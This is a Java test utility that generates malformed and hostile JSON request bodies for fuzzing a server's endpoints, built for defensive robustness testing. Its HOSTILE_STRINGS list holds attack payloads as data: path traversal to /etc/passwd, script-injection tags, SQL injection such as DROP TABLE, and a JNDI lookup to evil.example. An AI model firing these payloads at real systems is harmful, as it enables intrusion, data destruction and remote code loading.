package io.shopsense.server.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.shopsense.core.json.JsonCodec;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * A seeded generator of malformed and hostile JSON bodies, made by mutating a valid template: broken and deeply
 * nested JSON, huge bodies and strings, invalid UTF-8, control and null characters, wrong types, and path traversal,
 * script, SQL and template-injection strings in ids and values. The same seed gives the same cases. Endpoint-agnostic:
 * give it the templates of any JSON endpoint (see {@link EndpointFuzzer}).
 */
public final class HostileJson {
  /** Strings that have broken other systems: traversal, markup, SQL, template lookups, odd Unicode. */
  static final List<String> HOSTILE_STRINGS = List.of("../../../../etc/passwd", "..\\..\\windows\\win.ini",
      "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
      "'; DROP TABLE traits; --", "' OR '1'='1", "1; SELECT pg_sleep(5)", "${jndi:ldap://evil.example/x}",
      "#{7*7}", "{{7*7}}", "\u202eexe.txt", "💩🏳️‍🌈", "\uFEFF", "null", "undefined", "NaN", "-0", "",
      " ", "a\u0000b", "\u0007bell", "\u001b[2Jclear", "line\nbreak", "tab\there", "\\u0000",
      "lone\uD800surrogate", "\uDC00", "\uFFFF", "x".repeat(5_000));

  /** What one case did to the template, for the failure message. */
  public record Case(String mutation, byte[] body) {
    public String describe() {
      String text = new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8);
      return mutation + " (" + body.length + " bytes): " + text.replaceAll("\\p{Cntrl}", "?");
    }
  }

  private final Random random;

  public HostileJson(long seed) {
    this.random = new Random(seed);
  }

  /** One hostile variant of {@code template} (a JSON object). */
  public Case next(JsonNode template) {
    ObjectNode doc = template.deepCopy();
    int kind = random.nextInt(14);
    switch (kind) {
      case 0:
        return new Case("valid", bytes(doc));
      case 1: {
        byte[] b = bytes(doc);
        return new Case("truncated", java.util.Arrays.copyOf(b, random.nextInt(Math.max(1, b.length))));
      }
      case 2: {
        byte[] b = bytes(doc);
        int at = random.nextInt(b.length);
        String swaps = "{}[]\",:\\ x0";
        b[at] = (byte) swaps.charAt(random.nextInt(swaps.length()));
        return new Case("byte replaced", b);
      }
      case 3: {
        int depth = List.of(64, 600, 5_000, 50_000).get(random.nextInt(4));
        String open = random.nextBoolean() ? "[" : "{\"a\":";
        String close = open.equals("[") ? "]" : "}";
        setAny(doc, null);
        String text = new String(bytes(doc), StandardCharsets.UTF_8).replaceFirst("null",
            java.util.regex.Matcher.quoteReplacement(open.repeat(depth) + "1" + close.repeat(depth)));
        return new Case("nested " + depth, text.getBytes(StandardCharsets.UTF_8));
      }
      case 4: {
        int n = List.of(1_000, 70_000, 300_000, 3_000_000).get(random.nextInt(4));
        setAny(doc, JsonNodeFactory.instance.textNode("x".repeat(n)));
        return new Case("huge string " + n, bytes(doc));
      }
      case 5: {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}};
        setAny(doc, JsonNodeFactory.instance.textNode("MARK"));
        return new Case("invalid UTF-8", replace(bytes(doc), "MARK", bad[random.nextInt(bad.length)]));
      }
      case 6: {
        setAny(doc, JsonNodeFactory.instance.textNode("MARK"));
        byte[] raw = {0x00, 0x01, 0x1B, 0x7F, '\n'};
        return new Case("raw control byte", replace(bytes(doc), "MARK", new byte[] {raw[random.nextInt(raw.length)]}));
      }
      case 7: {
        JsonNode[] wrong = {JsonNodeFactory.instance.numberNode(123), JsonNodeFactory.instance.booleanNode(true),
            JsonNodeFactory.instance.nullNode(), JsonNodeFactory.instance.arrayNode(),
            JsonNodeFactory.instance.objectNode(), JsonNodeFactory.instance.textNode("str"),
            JsonNodeFactory.instance.numberNode(new BigInteger("123456789012345678901234567890123456789")),
            JsonNodeFactory.instance.numberNode(-1.5e300)};
        String field = setAny(doc, wrong[random.nextInt(wrong.length)]);
        return new Case("wrong type at " + field, bytes(doc));
      }
      case 8: {
        String s = HOSTILE_STRINGS.get(random.nextInt(HOSTILE_STRINGS.size()));
        String field = setAny(doc, JsonNodeFactory.instance.textNode(s));
        return new Case("hostile string at " + field, bytes(doc));
      }
      case 9: {
        String text = new String(bytes(doc), StandardCharsets.UTF_8);
        return new Case("duplicate keys", ("{\"type\":\"track\"," + text.substring(1)).getBytes(StandardCharsets.UTF_8));
      }
      case 10: {
        String[] numbers = {"1e400", "-1e400", "NaN", "Infinity", "0x10", "01", "1.", ".5", "+1", "1e-400"};
        setAny(doc, JsonNodeFactory.instance.textNode("MARK"));
        return new Case("bad number", replace(bytes(doc), "\"MARK\"",
            numbers[random.nextInt(numbers.length)].getBytes(StandardCharsets.US_ASCII)));
      }
      case 11: {
        byte[] junk = new byte[random.nextInt(64) + 1];
        random.nextBytes(junk);
        return new Case("random bytes", junk);
      }
      case 12: {
        String[] bodies = {"", "null", "[]", "\"str\"", "1", "{", "}", "{}", "{\"\":\"\"}", "[{}]", "\u0000"};
        return new Case("bare value", bodies[random.nextInt(bodies.length)].getBytes(StandardCharsets.UTF_8));
      }
      default: {
        // a huge body: many copies of the template's fields
        ObjectNode big = doc.deepCopy();
        for (int i = 0; i < 20_000; i++) {
          big.put("pad" + i, "y".repeat(40));
        }
        return new Case("huge body", bytes(big));
      }
    }
  }

  /** Replaces the value of a random field (at any depth) and returns its path. */
  private String setAny(ObjectNode doc, JsonNode value) {
    List<String> paths = new ArrayList<>();
    List<ObjectNode> owners = new ArrayList<>();
    collect(doc, "", paths, owners);
    int i = random.nextInt(paths.size());
    String path = paths.get(i);
    owners.get(i).set(path.substring(path.lastIndexOf('.') + 1), value == null
        ? JsonNodeFactory.instance.nullNode() : value);
    return path;
  }

  private static void collect(JsonNode node, String at, List<String> paths, List<ObjectNode> owners) {
    if (node instanceof ObjectNode o) {
      o.fieldNames().forEachRemaining(f -> {
        paths.add(at.isEmpty() ? f : at + "." + f);
        owners.add(o);
        collect(o.get(f), at.isEmpty() ? f : at + "." + f, paths, owners);
      });
    } else if (node instanceof ArrayNode a) {
      for (JsonNode item : a) {
        collect(item, at + "[]", paths, owners);
      }
    }
  }

  private static byte[] bytes(JsonNode node) {
    return JsonCodec.text(node).getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] replace(byte[] in, String marker, byte[] with) {
    String text = new String(in, StandardCharsets.UTF_8);
    int at = text.indexOf(marker);
    if (at < 0) {
      return in;
    }
    byte[] head = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
    byte[] tail = text.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(head);
    out.writeBytes(with);
    out.writeBytes(tail);
    return out.toByteArray();
  }
}
